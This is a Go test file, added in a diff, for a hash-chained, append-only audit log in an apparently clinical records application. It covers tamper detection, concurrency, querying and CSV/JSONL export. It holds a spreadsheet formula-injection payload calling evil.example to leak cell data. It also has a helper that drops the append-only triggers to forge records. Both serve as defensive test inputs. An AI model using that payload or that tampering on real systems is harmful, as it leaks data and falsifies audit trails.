@@ -1,0 +1,455 @@
+package audit_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/chartside/chartside/audit"
+	"github.com/chartside/chartside/db"
+	"github.com/chartside/chartside/db/dbtest"
+)
+
+// clock is a settable time source for tests.
+type clock struct {
+	mu sync.Mutex
+	t  time.Time
+}
+
+func (c *clock) now() time.Time {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	return c.t
+}
+
+func (c *clock) advance(d time.Duration) {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	c.t = c.t.Add(d)
+}
+
+func newClock() *clock {
+	return &clock{t: time.Date(2026, 3, 1, 9, 0, 0, 123456789, time.UTC)}
+}
+
+func entry(user, action, patient, outcome string) audit.Entry {
+	return audit.Entry{Username: user, Action: action, PatientID: patient, Outcome: outcome,
+		ClientAddr: "10.0.0.7", RequestID: "req-" + user}
+}
+
+func TestRecordAndQueryRoundTrip(t *testing.T) {
+	dbtest.Run(t, func(t *testing.T, tg dbtest.Target) {
+		ctx := context.Background()
+		c := newClock()
+		l := audit.New(tg.Open(t), c.now)
+		want := audit.Entry{
+			Username: "alice", Action: audit.ActionLookup, MRN: "203713", Outcome: audit.OutcomeShown,
+			PatientID: "erXuFYUfucBZaryVksYEcMg3", ClientAddr: "192.0.2.1", RequestID: "r1",
+			Detail: "unicode ✓ and \"quotes\", commas",
+		}
+		if err := l.Record(ctx, want); err != nil {
+			t.Fatal(err)
+		}
+		got, err := l.Query(ctx, audit.Filter{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(got) != 1 {
+			t.Fatalf("Query returned %d records, want 1", len(got))
+		}
+		want.Time = c.now().Truncate(time.Microsecond)
+		if got[0].Entry != want {
+			t.Errorf("stored entry\n got %+v\nwant %+v", got[0].Entry, want)
+		}
+		if got[0].Seq != 1 || got[0].PrevHash != audit.GenesisHash || len(got[0].Hash) != 64 {
+			t.Errorf("chain fields: seq %d prev %q hash %q", got[0].Seq, got[0].PrevHash, got[0].Hash)
+		}
+	})
+}
+
+func TestRecordRejectsInvalidEntries(t *testing.T) {
+	d := dbtest.New(t, db.SQLite)
+	l := audit.New(d, time.Now)
+	tests := []struct {
+		name string
+		e    audit.Entry
+		want error
+	}{
+		{"no user", audit.Entry{Action: audit.ActionLookup, Outcome: audit.OutcomeShown}, audit.ErrMissingUser},
+		{"bad action", audit.Entry{Username: "a", Action: "peek", Outcome: audit.OutcomeShown}, audit.ErrInvalidAction},
+		{"bad outcome", audit.Entry{Username: "a", Action: audit.ActionLookup, Outcome: "meh"}, audit.ErrInvalidOutcome},
+		{"long detail", audit.Entry{Username: "a", Action: audit.ActionLookup, Outcome: audit.OutcomeShown, Detail: strings.Repeat("x", 5000)}, audit.ErrFieldTooLong},
+	}
+	for _, tt := range tests {
+		if err := l.Record(context.Background(), tt.e); !errors.Is(err, tt.want) {
+			t.Errorf("%s: Record error = %v, want %v", tt.name, err, tt.want)
+		}
+	}
+}
+
+// Bytes PostgreSQL cannot store are replaced, identically on both engines,
+// so the chain still verifies.
+func TestRecordSanitisesUnstorableBytes(t *testing.T) {
+	dbtest.Run(t, func(t *testing.T, tg dbtest.Target) {
+		ctx := context.Background()
+		l := audit.New(tg.Open(t), time.Now)
+		e := entry("bob", audit.ActionLookup, "", audit.OutcomeNotFound)
+		e.MRN = "12\x0034\xff"
+		if err := l.Record(ctx, e); err != nil {
+			t.Fatal(err)
+		}
+		got, err := l.Query(ctx, audit.Filter{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if want := "12\uFFFD34\uFFFD"; got[0].MRN != want {
+			t.Errorf("MRN = %q, want %q", got[0].MRN, want)
+		}
+		assertVerifies(t, l, 1)
+	})
+}
+
+func assertVerifies(t *testing.T, l *audit.Log, records int64) {
+	t.Helper()
+	res, err := l.Verify(context.Background())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !res.OK || res.Records != records || res.FirstBroken != 0 {
+		t.Fatalf("Verify = %+v, want OK with %d records", res, records)
+	}
+}
+
+func TestVerifyEmptyAndHealthyChains(t *testing.T) {
+	dbtest.Run(t, func(t *testing.T, tg dbtest.Target) {
+		ctx := context.Background()
+		c := newClock()
+		l := audit.New(tg.Open(t), c.now)
+		assertVerifies(t, l, 0)
+		for i := 0; i < 25; i++ {
+			c.advance(time.Second)
+			if err := l.Record(ctx, entry(fmt.Sprintf("u%d", i%3), audit.ActionChartView, "p1", audit.OutcomeShown)); err != nil {
+				t.Fatal(err)
+			}
+		}
+		assertVerifies(t, l, 25)
+	})
+}
+
+// tamper edits the database behind the Log's back, as someone with direct
+// database access would: first lifting the append-only triggers.
+func tamper(t *testing.T, d *db.DB, stmt string, args ...any) {
+	t.Helper()
+	ctx := context.Background()
+	if d.Dialect == db.Postgres {
+		if _, err := d.ExecContext(ctx, "ALTER TABLE audit_log DISABLE TRIGGER audit_log_no_change"); err != nil {
+			t.Fatal(err)
+		}
+	} else {
+		for _, trg := range []string{"audit_log_no_update", "audit_log_no_delete"} {
+			if _, err := d.ExecContext(ctx, "DROP TRIGGER "+trg); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	if _, err := d.ExecContext(ctx, d.Rebind(stmt), args...); err != nil {
+		t.Fatalf("tamper %q: %v", stmt, err)
+	}
+}
+
+func TestVerifyFindsFirstTamperedRecord(t *testing.T) {
+	tests := []struct {
+		name   string
+		stmt   string
+		args   []any
+		broken int64
+		reason string
+	}{
+		{"edit patient", "UPDATE audit_log SET patient_id = ? WHERE seq = ?", []any{"someone-else", 7}, 7, "content"},
+		{"edit username", "UPDATE audit_log SET username = ? WHERE seq = ?", []any{"mallory", 3}, 3, "content"},
+		{"delete middle", "DELETE FROM audit_log WHERE seq = ?", []any{5}, 6, "gap"},
+		{"rehash one record", "UPDATE audit_log SET hash = ? WHERE seq = ?", []any{strings.Repeat("ab", 32), 4}, 4, "content"},
+		{"edit first", "UPDATE audit_log SET outcome = ? WHERE seq = ?", []any{audit.OutcomeNotFound, 1}, 1, "content"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dbtest.Run(t, func(t *testing.T, tg dbtest.Target) {
+				ctx := context.Background()
+				c := newClock()
+				d := tg.Open(t)
+				l := audit.New(d, c.now)
+				for i := 0; i < 10; i++ {
+					c.advance(time.Minute)
+					if err := l.Record(ctx, entry("alice", audit.ActionChartView, fmt.Sprintf("p%d", i), audit.OutcomeShown)); err != nil {
+						t.Fatal(err)
+					}
+				}
+				tamper(t, d, tt.stmt, tt.args...)
+				res, err := l.Verify(ctx)
+				if err != nil {
+					t.Fatal(err)
+				}
+				if res.OK || res.FirstBroken != tt.broken || !strings.Contains(res.Reason, tt.reason) {
+					t.Errorf("Verify = %+v, want broken at %d (%s)", res, tt.broken, tt.reason)
+				}
+			})
+		})
+	}
+}
+
+// An attacker who edits a record and recomputes its hash with the public
+// algorithm still breaks the link to the next record.
+func TestVerifyCatchesRecomputedHash(t *testing.T) {
+	dbtest.Run(t, func(t *testing.T, tg dbtest.Target) {
+		ctx := context.Background()
+		d := tg.Open(t)
+		l := audit.New(d, newClock().now)
+		for i := 0; i < 3; i++ {
+			if err := l.Record(ctx, entry("alice", audit.ActionChartView, "p", audit.OutcomeShown)); err != nil {
+				t.Fatal(err)
+			}
+		}
+		recs, err := l.Query(ctx, audit.Filter{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		r2 := recs[1] // newest first: 3, 2, 1
+		r2.PatientID = "someone-else"
+		forged := audit.ChainHash(r2.Seq, r2.Entry, r2.PrevHash)
+		tamper(t, d, "UPDATE audit_log SET patient_id = ?, hash = ? WHERE seq = 2", r2.PatientID, forged)
+		res, err := l.Verify(ctx)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if res.OK || res.FirstBroken != 3 || !strings.Contains(res.Reason, "previous-hash") {
+			t.Errorf("Verify = %+v, want broken at 3 (previous-hash link)", res)
+		}
+	})
+}
+
+func TestAppendOnlyTriggers(t *testing.T) {
+	dbtest.Run(t, func(t *testing.T, tg dbtest.Target) {
+		ctx := context.Background()
+		d := tg.Open(t)
+		l := audit.New(d, time.Now)
+		if err := l.Record(ctx, entry("alice", audit.ActionSignIn, "", audit.OutcomeOK)); err != nil {
+			t.Fatal(err)
+		}
+		for _, stmt := range []string{"UPDATE audit_log SET username = 'x'", "DELETE FROM audit_log"} {
+			if _, err := d.ExecContext(ctx, stmt); err == nil {
+				t.Errorf("%q succeeded, want append-only error", stmt)
+			}
+		}
+		assertVerifies(t, l, 1)
+	})
+}
+
+// Many goroutines on each of two handles to the same database (two
+// replicas) append at once; the result must be one contiguous valid chain
+// holding every record.
+func TestConcurrentAppendsFromTwoReplicas(t *testing.T) {
+	dbtest.Run(t, func(t *testing.T, tg dbtest.Target) {
+		ctx := context.Background()
+		replicas := []*audit.Log{audit.New(tg.Open(t), time.Now), audit.New(tg.Open(t), time.Now)}
+		const workers, each = 4, 15
+		var wg sync.WaitGroup
+		errs := make(chan error, len(replicas)*workers*each)
+		for r, l := range replicas {
+			for w := 0; w < workers; w++ {
+				wg.Add(1)
+				go func() {
+					defer wg.Done()
+					for i := 0; i < each; i++ {
+						e := entry(fmt.Sprintf("r%dw%d", r, w), audit.ActionLookup, "", audit.OutcomeShown)
+						e.MRN = fmt.Sprint(i)
+						if err := l.Record(ctx, e); err != nil {
+							errs <- err
+						}
+					}
+				}()
+			}
+		}
+		wg.Wait()
+		close(errs)
+		for err := range errs {
+			t.Error(err)
+		}
+		total := int64(len(replicas) * workers * each)
+		assertVerifies(t, replicas[0], total)
+		assertVerifies(t, replicas[1], total)
+	})
+}
+
+func TestQueryFiltersAndPaging(t *testing.T) {
+	dbtest.Run(t, func(t *testing.T, tg dbtest.Target) {
+		ctx := context.Background()
+		c := newClock()
+		start := c.now()
+		l := audit.New(tg.Open(t), c.now)
+		// 12 records, one a minute: users alternate, patients cycle p0..p2,
+		// every fourth is a lookup.
+		for i := 0; i < 12; i++ {
+			action := audit.ActionChartView
+			if i%4 == 0 {
+				action = audit.ActionLookup
+			}
+			e := entry([]string{"alice", "bob"}[i%2], action, fmt.Sprintf("p%d", i%3), audit.OutcomeShown)
+			if err := l.Record(ctx, e); err != nil {
+				t.Fatal(err)
+			}
+			c.advance(time.Minute)
+		}
+		seqs := func(rs []audit.Record) []int64 {
+			var out []int64
+			for _, r := range rs {
+				out = append(out, r.Seq)
+			}
+			return out
+		}
+		tests := []struct {
+			name string
+			f    audit.Filter
+			want []int64
+		}{
+			{"all newest first", audit.Filter{}, []int64{12, 11, 10, 9, 8, 7, 6, 5, 4, 3, 2, 1}},
+			{"user", audit.Filter{Username: "bob"}, []int64{12, 10, 8, 6, 4, 2}},
+			{"patient", audit.Filter{PatientID: "p1"}, []int64{11, 8, 5, 2}},
+			{"action", audit.Filter{Action: audit.ActionLookup}, []int64{9, 5, 1}},
+			{"user and patient", audit.Filter{Username: "alice", PatientID: "p0"}, []int64{7, 1}},
+			{"time range", audit.Filter{From: start.Add(2 * time.Minute), To: start.Add(5 * time.Minute)}, []int64{5, 4, 3}},
+			{"from inclusive to end", audit.Filter{From: start.Add(10 * time.Minute)}, []int64{12, 11}},
+			{"first page", audit.Filter{Limit: 5}, []int64{12, 11, 10, 9, 8}},
+			{"second page", audit.Filter{Limit: 5, BeforeSeq: 8}, []int64{7, 6, 5, 4, 3}},
+			{"last page", audit.Filter{Limit: 5, BeforeSeq: 3}, []int64{2, 1}},
+			{"nothing", audit.Filter{Username: "carol"}, nil},
+		}
+		for _, tt := range tests {
+			got, err := l.Query(ctx, tt.f)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if fmt.Sprint(seqs(got)) != fmt.Sprint(tt.want) {
+				t.Errorf("%s: seqs = %v, want %v", tt.name, seqs(got), tt.want)
+			}
+		}
+	})
+}
+
+func TestExportCSVNeutralisesFormulas(t *testing.T) {
+	dbtest.Run(t, func(t *testing.T, tg dbtest.Target) {
+		ctx := context.Background()
+		l := audit.New(tg.Open(t), newClock().now)
+		e := entry("alice", audit.ActionLookup, "", audit.OutcomeNotFound)
+		e.MRN = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
+		e.Detail = "@SUM(1+1)"
+		if err := l.Record(ctx, e); err != nil {
+			t.Fatal(err)
+		}
+		var buf bytes.Buffer
+		if err := l.Export(ctx, &buf, audit.Filter{}, audit.FormatCSV); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&buf).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(rows) != 2 {
+			t.Fatalf("CSV has %d rows, want header + 1", len(rows))
+		}
+		header, row := rows[0], rows[1]
+		col := func(name string) string {
+			for i, h := range header {
+				if h == name {
+					return row[i]
+				}
+			}
+			t.Fatalf("no column %q in %v", name, header)
+			return ""
+		}
+		if got, want := col("mrn"), "'"+e.MRN; got != want {
+			t.Errorf("mrn cell = %q, want %q", got, want)
+		}
+		if got, want := col("detail"), "'@SUM(1+1)"; got != want {
+			t.Errorf("detail cell = %q, want %q", got, want)
+		}
+		if got := col("username"); got != "alice" {
+			t.Errorf("username cell = %q, want alice", got)
+		}
+	})
+}
+
+func TestCSVSafe(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"", ""},
+		{"=1+1", "'=1+1"},
+		{"+1", "'+1"},
+		{"-1", "'-1"},
+		{"@x", "'@x"},
+		{"\tx", "'\tx"},
+		{"\rx", "'\rx"},
+		{"a=b", "a=b"},
+		{"203713", "203713"},
+	}
+	for _, tt := range tests {
+		if got := audit.CSVSafe(tt.in); got != tt.want {
+			t.Errorf("CSVSafe(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestExportJSONLAndFilters(t *testing.T) {
+	dbtest.Run(t, func(t *testing.T, tg dbtest.Target) {
+		ctx := context.Background()
+		c := newClock()
+		start := c.now()
+		l := audit.New(tg.Open(t), c.now)
+		for i := 0; i < 5; i++ {
+			if err := l.Record(ctx, entry("alice", audit.ActionChartView, fmt.Sprint(i), audit.OutcomeShown)); err != nil {
+				t.Fatal(err)
+			}
+			c.advance(time.Hour)
+		}
+		var buf bytes.Buffer
+		f := audit.Filter{From: start.Add(time.Hour), To: start.Add(4 * time.Hour)}
+		if err := l.Export(ctx, &buf, f, audit.FormatJSONL); err != nil {
+			t.Fatal(err)
+		}
+		lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
+		var got []string
+		for _, line := range lines {
+			var rec map[string]any
+			if err := json.Unmarshal([]byte(line), &rec); err != nil {
+				t.Fatalf("line %q: %v", line, err)
+			}
+			got = append(got, fmt.Sprintf("%v/%v", rec["seq"], rec["patient_id"]))
+		}
+		if want := []string{"2/1", "3/2", "4/3"}; fmt.Sprint(got) != fmt.Sprint(want) {
+			t.Errorf("exported %v, want %v (oldest first, range filtered)", got, want)
+		}
+		if err := l.Export(ctx, &buf, audit.Filter{}, "xlsx"); !errors.Is(err, audit.ErrUnknownFormat) {
+			t.Errorf("Export xlsx error = %v, want ErrUnknownFormat", err)
+		}
+	})
+}
+
+// Callers fail closed: when the table cannot be written, Record errors.
+func TestRecordFailsWhenTableUnwritable(t *testing.T) {
+	dbtest.Run(t, func(t *testing.T, tg dbtest.Target) {
+		ctx := context.Background()
+		d := tg.Open(t)
+		l := audit.New(d, time.Now)
+		if _, err := d.ExecContext(ctx, "DROP TABLE audit_log"); err != nil {
+			t.Fatal(err)
+		}
+		if err := l.Record(ctx, entry("alice", audit.ActionChartView, "p", audit.OutcomeShown)); err == nil {
+			t.Fatal("Record succeeded without an audit table, want error")
+		}
+	})
+}
